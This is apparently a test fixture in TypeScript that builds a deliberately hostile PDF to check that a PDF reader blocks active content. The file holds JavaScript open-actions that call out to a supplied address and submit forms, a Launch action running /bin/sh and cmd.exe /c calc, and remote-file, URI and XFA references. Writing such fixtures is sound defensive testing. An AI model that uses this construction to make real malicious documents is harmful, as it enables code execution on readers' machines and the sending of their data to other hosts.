import { PdfText } from '../scripts/fixtures/pdf-text.ts';

/** A page that tries every means PDF has to make a reader run scripts, start programs and contact other hosts. */
export function attackFile(address: string): Uint8Array<ArrayBuffer> {
  const file = new PdfText();
  const font = file.add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  const contents = file.stream('', 'BT /F1 24 Tf 20 100 Td (Attack) Tj ET /Far Do');
  const script = `<< /S /JavaScript /JS (app.launchURL\\("${address}script"\\); app.alert\\(1\\); this.submitForm\\("${address}form"\\)) >>`;
  const far = `<< /Type /Filespec /FS /URL /F (${address}file) >>`;
  const picture = file.stream(
    `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${far}`,
    '',
  );
  const actions = [
    script,
    `<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>`,
    `<< /S /URI /URI (${address}uri) >>`,
    `<< /S /SubmitForm /F ${far} >>`,
    `<< /S /ImportData /F ${far} >>`,
    `<< /S /GoToR /F ${far} /D [0 /Fit] >>`,
    `<< /S /GoToE /F ${far} /D [0 /Fit] >>`,
  ];
  const annotations = actions.map((action) =>
    file.add(
      `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A ${action} /AA << /E ${action} /PV ${action} /PO ${action} >> >>`,
    ),
  );
  const page = file.page(
    `/Contents ${contents} /MediaBox [0 0 300 200] /AA << /O ${script} /C ${script} >>
    /Annots [${annotations.join(' ')}] /Resources << /Font << /F1 ${font} >> /XObject << /Far ${picture} >> >>`,
  );
  return new Uint8Array(
    file.document([page], {
      catalog: `/OpenAction ${script} /AA << /WC ${script} /DP ${script} >>
    /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [] /XFA [(template) ${far}] >>`,
    }),
  );
}
